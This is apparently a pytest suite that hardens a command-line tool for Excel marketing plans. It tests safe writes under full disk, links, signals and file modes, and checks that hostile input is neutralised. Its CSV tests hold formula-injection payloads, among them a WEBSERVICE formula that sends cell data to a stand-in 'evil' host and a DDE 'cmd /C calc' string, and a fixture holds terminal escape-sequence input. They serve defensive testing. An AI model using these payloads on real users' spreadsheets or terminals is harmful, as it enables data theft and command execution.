"""Issue 13 (hardening): formula injection in CSV, safe outputs (full disk, links, lost updates, signals,
modes), control characters in terminal and calendar output, extreme values, small CLI failures.

Disk-full cases run on a private tmpfs (skipped when mounting is not permitted); nothing writes to /dev/full.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from datetime import datetime as dt
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from mplan_xl import hygiene
from mplan_xl.cli import cli
from mplan_xl.export import write_csv
from mplan_xl.ooxml import safewrite
from mplan_xl.pipeline import check

from .conftest import ROOT
from .helpers import Text, fill, set_settings

SAMPLE = ROOT / "samples" / "exemple-fr.xlsx"
TODAY = "2027-06-30"
MPLAN = [sys.executable, "-m", "mplan_xl"]


def run(args, **kwargs):
    return subprocess.run(MPLAN + [str(a) for a in args], capture_output=True, text=True, cwd=ROOT, **kwargs)


def one_line_refusal(result, code=2):
    assert result.returncode == code, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("mplan: "), result.stderr
    return lines[0]


def leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if "mplan-tmp" in p.name]


@pytest.fixture
def small_disk(tmp_path):
    """A private 8 MB tmpfs, unmounted at the end whatever happens."""
    if not hasattr(os, "geteuid") or os.geteuid() != 0 or not shutil.which("mount"):
        pytest.skip("mounting a tmpfs needs root")
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", str(mount)], capture_output=True)
    if done.returncode:
        pytest.skip(f"mount not permitted: {done.stderr.decode(errors='replace').strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def fill_disk(folder: Path, leave: int) -> None:
    """Leave about `leave` bytes free on folder's file system."""
    info = os.statvfs(folder)
    free = info.f_bavail * info.f_frsize
    with open(folder / "filler", "wb") as handle:
        handle.write(b"\0" * max(0, free - leave))


# --- 1. CSV formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=WEBSERVICE("http://x/?"&A3)', '\'=WEBSERVICE("http://x/?"&A3)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-300", "-300"),
        ("+1,5", "+1,5"),
        ("-12.5e3", "-12.5e3"),
        ("Soldes -20 %", "Soldes -20 %"),
        ("", ""),
    ],
)
def test_csv_cell_neutralises_formula_starters(text, written):
    assert hygiene.csv_cell(text) == written


def test_csv_export_neutralises_table_and_computed_cells(tmp_path):
    plan = fill(
        SAMPLE,
        tmp_path / "plan.xlsx",
        {
            "actions": [dict(action=Text('=WEBSERVICE("http://evil/?"&A3)'), cost=-300)],
            "schedule": [dict(owner=Text('=HYPERLINK("http://evil")'))],
            "team": [dict(member=Text('=HYPERLINK("http://evil")'))],
        },
    )
    folder = tmp_path / "csv"
    write_csv(check(plan, today=dt(2027, 6, 30).date()), folder)
    cells = []
    for path in folder.glob("*.csv"):
        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
        cells += [c for row in rows for c in row]
    assert '\'=WEBSERVICE("http://evil/?"&A3)' in cells
    assert '\'=HYPERLINK("http://evil")' in cells  # figures_workload.csv's owner
    assert not [c for c in cells if c.lstrip(" \t\r").startswith(("=", "@"))]
    assert "-300" in cells, "a negative number stays a number"


# --- 5, 6. full disk, unwritable folders ----------------------------------------------------------


def test_full_disk_keeps_workbook_and_previous_backup(small_disk, tmp_path):
    reference = tmp_path / "reference.xlsx"
    assert run(["report", SAMPLE, "-o", reference, "--today", TODAY]).returncode in (0, 1)
    plan, backup = small_disk / "plan.xlsx", small_disk / "plan.bak.xlsx"
    shutil.copy(SAMPLE, plan)
    backup.write_bytes(b"previous good backup" * 1000)
    before = plan.read_bytes(), backup.read_bytes()
    # room for the new workbook, not for the backup copy as well
    fill_disk(small_disk, reference.stat().st_size + SAMPLE.stat().st_size // 2)
    line = one_line_refusal(run(["report", plan, "--today", TODAY]))
    assert "rien n'a été modifié" in line, "in the workbook's language"
    assert (plan.read_bytes(), backup.read_bytes()) == before
    assert not leftovers(small_disk)
    (small_disk / "filler").unlink()
    fill_disk(small_disk, 4096)
    one_line_refusal(run(["report", plan, "--today", TODAY]))
    assert (plan.read_bytes(), backup.read_bytes()) == before
    assert not leftovers(small_disk)


def test_full_disk_keeps_previous_portfolio_and_exports(small_disk):
    portfolio, ics, data = small_disk / "portfolio.xlsx", small_disk / "plan.ics", small_disk / "plan.json"
    assert run(["consolidate", SAMPLE, "-o", portfolio, "--today", TODAY]).returncode == 0
    assert run(["export", SAMPLE, "--format", "ics", "-o", ics, "--today", TODAY]).returncode == 0
    assert run(["export", SAMPLE, "--format", "json", "-o", data, "--today", TODAY]).returncode == 0
    before = {p: p.read_bytes() for p in (portfolio, ics, data)}
    fill_disk(small_disk, 2048)
    one_line_refusal(run(["consolidate", SAMPLE, "-o", portfolio, "--force", "--today", TODAY]))
    one_line_refusal(run(["export", SAMPLE, "--format", "ics", "-o", ics, "--today", TODAY]))
    one_line_refusal(run(["export", SAMPLE, "--format", "json", "-o", data, "--today", TODAY]))
    one_line_refusal(run(["export", SAMPLE, "--format", "csv", "-o", small_disk / "csv", "--today", TODAY]))
    assert {p: p.read_bytes() for p in before} == before
    assert not leftovers(small_disk)


def test_consolidate_into_missing_or_read_only_folder(tmp_path, small_disk):
    line = one_line_refusal(run(["consolidate", SAMPLE, "-o", tmp_path / "nowhere" / "p.xlsx"]))
    assert "does not exist" in line
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    line = one_line_refusal(run(["consolidate", SAMPLE, "-o", small_disk / "p.xlsx"]))
    assert "cannot write" in line


# --- 9. lost update ----------------------------------------------------------------------------------


def test_workbook_saved_meanwhile_is_kept_and_the_report_set_aside(tmp_path, monkeypatch):
    import mplan_xl.report as report_module

    plan = tmp_path / "plan.xlsx"
    shutil.copy(SAMPLE, plan)
    backup = tmp_path / "plan.bak.xlsx"
    backup.write_bytes(b"old backup")
    saved_by_excel = (ROOT / "samples" / "example-en.xlsx").read_bytes()
    verify = report_module.verify

    def verify_then_excel_saves(*args, **kwargs):
        verify(*args, **kwargs)
        plan.write_bytes(saved_by_excel)  # another program saves while mplan is finishing

    monkeypatch.setattr(report_module, "verify", verify_then_excel_saves)
    result = CliRunner().invoke(cli, ["report", str(plan), "--today", TODAY])
    assert result.exit_code == 2, result.output
    assert "saved by another program" in result.output and "plan.mplan-conflict.xlsx" in result.output
    assert plan.read_bytes() == saved_by_excel
    assert backup.read_bytes() == b"old backup"
    conflict = tmp_path / "plan.mplan-conflict.xlsx"
    assert check(conflict).plan.setting("plan_name") == check(SAMPLE).plan.setting("plan_name")
    assert not leftovers(tmp_path)


# --- 10. links ------------------------------------------------------------------------------------


def test_report_writes_through_a_symlink(tmp_path):
    real_folder = tmp_path / "real"
    real_folder.mkdir()
    real = real_folder / "plan.xlsx"
    shutil.copy(SAMPLE, real)
    link = tmp_path / "plan.xlsx"
    link.symlink_to(real)
    assert run(["report", link, "--today", TODAY]).returncode in (0, 1)
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_bytes() != SAMPLE.read_bytes()
    sheets = [len(openpyxl.load_workbook(p, read_only=True).sheetnames) for p in (real, SAMPLE)]
    assert sheets[0] > sheets[1], "the report sheets are in the real workbook"
    assert (real_folder / "plan.bak.xlsx").read_bytes() == SAMPLE.read_bytes()


def test_consolidate_refuses_a_hard_link_of_an_input(tmp_path):
    plan = tmp_path / "plan.xlsx"
    shutil.copy(SAMPLE, plan)
    link = tmp_path / "portfolio.xlsx"
    os.link(plan, link)
    line = one_line_refusal(run(["consolidate", plan, "-o", link, "--force"]))
    assert "choose another output name" in line
    assert plan.read_bytes() == SAMPLE.read_bytes()


def test_export_never_replaces_a_workbook_without_force(tmp_path):
    plan = tmp_path / "plan.xlsx"
    other = tmp_path / "other.xlsx"
    shutil.copy(SAMPLE, plan)
    shutil.copy(SAMPLE, other)
    for fmt in ("ics", "json"):
        line = one_line_refusal(run(["export", plan, "--format", fmt, "-o", other]))
        assert "--force" in line
        one_line_refusal(run(["export", plan, "--format", fmt, "-o", plan, "--force"]))  # the input: never
    assert other.read_bytes() == plan.read_bytes() == SAMPLE.read_bytes()
    assert run(["export", plan, "--format", "ics", "-o", other, "--force"]).returncode == 0
    assert other.read_bytes().startswith(b"BEGIN:VCALENDAR")
    ics = tmp_path / "plan.ics"
    for _ in range(2):  # a previous export of the same format is replaced without --force
        assert run(["export", plan, "--format", "ics", "-o", ics]).returncode == 0


def test_report_output_that_is_the_input_is_refused(tmp_path):
    plan = tmp_path / "plan.xlsx"
    shutil.copy(SAMPLE, plan)
    os.link(plan, tmp_path / "same.xlsx")
    one_line_refusal(run(["report", plan, "-o", tmp_path / "same.xlsx"]))
    assert plan.read_bytes() == SAMPLE.read_bytes()


# --- 11. signals and modes ----------------------------------------------------------------------------


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP])
def test_signal_during_report_leaves_no_temp_file(tmp_path, signum):
    plan = tmp_path / "plan.xlsx"
    shutil.copy(SAMPLE, plan)
    for _ in range(20):
        process = subprocess.Popen(MPLAN + ["report", str(plan), "--no-backup", "--today", TODAY], cwd=ROOT)
        try:
            while process.poll() is None and not leftovers(tmp_path):
                time.sleep(0.0005)
            if process.poll() is None:
                process.send_signal(signum)
        finally:
            process.wait(30)
        if process.returncode == -signum:
            break
        shutil.copy(SAMPLE, plan)  # the report finished first: try again
    else:
        pytest.skip("the report always ended before the signal")
    assert not leftovers(tmp_path)
    assert plan.read_bytes() == SAMPLE.read_bytes()


def test_new_output_follows_the_umask(tmp_path):
    previous = os.umask(0o022)
    try:
        assert CliRunner().invoke(cli, ["report", str(SAMPLE), "-o", str(tmp_path / "a.xlsx")]).exit_code in (0, 1)
        assert CliRunner().invoke(cli, ["consolidate", str(SAMPLE), "-o", str(tmp_path / "p.xlsx")]).exit_code == 0
        os.umask(0o077)
        assert CliRunner().invoke(cli, ["report", str(SAMPLE), "-o", str(tmp_path / "b.xlsx")]).exit_code in (0, 1)
    finally:
        os.umask(previous)
    assert (tmp_path / "a.xlsx").stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "p.xlsx").stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "b.xlsx").stat().st_mode & 0o777 == 0o600


def test_signal_handlers_are_restored(tmp_path):
    before = signal.getsignal(signal.SIGTERM)
    with safewrite.staged(tmp_path / "x.xlsx"):
        assert signal.getsignal(signal.SIGTERM) is not before
    assert signal.getsignal(signal.SIGTERM) is before


# --- 12. control characters ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_text(tmp_path_factory):
    folder = tmp_path_factory.mktemp("controls")
    plan = fill(
        SAMPLE,
        folder / "plan.xlsx",
        {"actions": [dict(action="_x001B_[2J_x001B_]0;pwned_x0007_Clear", objective="_x001B_]0;title_x0007_")]},
    )
    set_settings(plan, {"plan_name": "Plan\nsur deux lignes_x001B_[31m"})
    return plan


def test_validate_and_diff_print_no_escape_sequence(hostile_text):
    assert "\x1b" in str(check(hostile_text).plan.rows("actions")[0].get("action"))  # the reader keeps them
    for args in (["validate", hostile_text], ["diff", SAMPLE, hostile_text]):
        result = run(args)
        assert result.returncode in (0, 1), result.stderr
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\\x1b" in run(["validate", hostile_text]).stdout  # shown escaped


def test_ics_holds_no_forbidden_control(hostile_text, tmp_path):
    target = tmp_path / "plan.ics"
    assert run(["export", hostile_text, "--format", "ics", "-o", target]).returncode == 0
    text = target.read_bytes().decode("utf-8").replace("\r\n", "")
    assert not [c for c in text if ord(c) < 32 and c != "\t" or ord(c) == 127]
    assert "X-WR-CALNAME:Plan sur deux lignes[31m" in text


# --- 3. extreme values -----------------------------------------------------------------------------


EXTREMES = {
    "deadline_9999": ({"objectives": [dict(deadline=dt(9999, 12, 31))]}, None),
    "period_end_9999": (None, {"period_end": dt(9999, 12, 31)}),
    "schedule_end_9999": ({"schedule": [dict(end=dt(9999, 12, 31))]}, None),
    "name_line_break": (None, {"plan_name": "Plan\nmarketing"}),
    "costs_1e308": ({"actions": [dict(cost=1e308), dict(cost=1e308)]}, None),
    "digits_400": ({"actions": [dict(cost=Text("9" * 400)), dict(revenue=Text("9" * 400))]}, None),
    "envelope_1e308": (None, {"envelope": 1e308}),
}


@pytest.fixture(scope="module")
def extremes(tmp_path_factory):
    folder = tmp_path_factory.mktemp("extremes")
    made = {}
    for name, (rows, settings) in EXTREMES.items():
        path = folder / f"{name}.xlsx"
        fill(SAMPLE, path, rows or {})
        if settings:
            set_settings(path, settings)
        made[name] = path
    return made


@pytest.mark.parametrize("name", list(EXTREMES))
def test_extreme_values_are_findings_never_tracebacks(extremes, name, tmp_path):
    path = extremes[name]
    for args in (
        ["validate", path],
        ["validate", path, "--format", "json"],
        ["report", path, "-o", tmp_path / "r.xlsx"],
        ["export", path, "--format", "json"],
        ["export", path, "--format", "ics", "-o", tmp_path / "p.ics"],
        ["export", path, "--format", "csv", "-o", tmp_path / "csv"],
        ["consolidate", path, "-o", tmp_path / "p.xlsx", "--force"],
    ):
        result = run(args + ["--today", TODAY])
        assert result.returncode in (0, 1), (args, result.stderr)
        assert "Traceback" not in result.stderr
        if "json" in args and args[0] != "report":
            json.loads(result.stdout)
            assert "Infinity" not in result.stdout and "NaN" not in result.stdout
    if name not in ("name_line_break",):
        codes = {f["code"] for f in json.loads(run(["validate", path, "--format", "json"]).stdout)["findings"]}
        assert "MP004" in codes


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_today_out_of_range_is_one_line(day):
    assert "out of range" in one_line_refusal(run(["validate", SAMPLE, "--today", day, "--lang", "en"]))
    assert "hors limites" in one_line_refusal(run(["validate", SAMPLE, "--today", day]))


def test_json_escapes_c1_controls():
    text = hygiene.json_c1(json.dumps({"a": "x\x9b2J\x7f"}, ensure_ascii=False))
    assert "\x9b" not in text and json.loads(text) == {"a": "x\x9b2J\x7f"}


def test_json_never_holds_infinity():
    assert json.loads(json.dumps(hygiene.json_ready({"a": [float("inf"), float("nan"), 1.5]}), allow_nan=False)) == {
        "a": [None, None, 1.5]
    }


# --- 14. stdout and pipes -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args", [["validate", SAMPLE], ["validate", SAMPLE, "--format", "json"], ["export", SAMPLE, "--format", "json"]]
)
def test_full_stdout_is_one_line(small_disk, args):
    fill_disk(small_disk, 0)
    with open(small_disk / "out.txt", "w") as out:
        result = subprocess.run(
            MPLAN + [str(a) for a in args] + ["--today", TODAY], stdout=out, stderr=subprocess.PIPE, text=True, cwd=ROOT
        )
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.strip().splitlines() == [
        "mplan: impossible d'écrire sur la sortie standard : No space left on device"
    ], "in the workbook's language"


def test_workbook_from_a_pipe_is_not_called_damaged():
    read, write = os.pipe()
    try:
        result = subprocess.run(
            MPLAN + ["validate", f"/dev/fd/{read}"], capture_output=True, text=True, cwd=ROOT, pass_fds=(read,)
        )
    finally:
        os.close(read)
        os.close(write)
    line = one_line_refusal(result)
    assert "not a regular file" in line and "damaged" not in line


def test_backup_copy_failing_midway_keeps_the_previous_backup(tmp_path, monkeypatch):
    plan, backup = tmp_path / "plan.xlsx", tmp_path / "plan.bak.xlsx"
    shutil.copy(SAMPLE, plan)
    backup.write_bytes(b"previous good backup")

    def copy_half_then_fail(source, target):
        Path(target).write_bytes(Path(source).read_bytes()[:1000])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(safewrite.shutil, "copyfile", copy_half_then_fail)
    result = CliRunner().invoke(cli, ["report", str(plan), "--today", TODAY])
    assert result.exit_code == 2 and "rien n'a été modifié" in result.output
    assert plan.read_bytes() == SAMPLE.read_bytes()
    assert backup.read_bytes() == b"previous good backup"
    assert not leftovers(tmp_path)


def test_report_output_naming_the_input_writes_in_place(tmp_path):
    plan = tmp_path / "plan.xlsx"
    shutil.copy(SAMPLE, plan)
    assert run(["report", plan, "-o", tmp_path / "." / "plan.xlsx", "--today", TODAY]).returncode in (0, 1)
    assert (tmp_path / "plan.bak.xlsx").read_bytes() == SAMPLE.read_bytes()
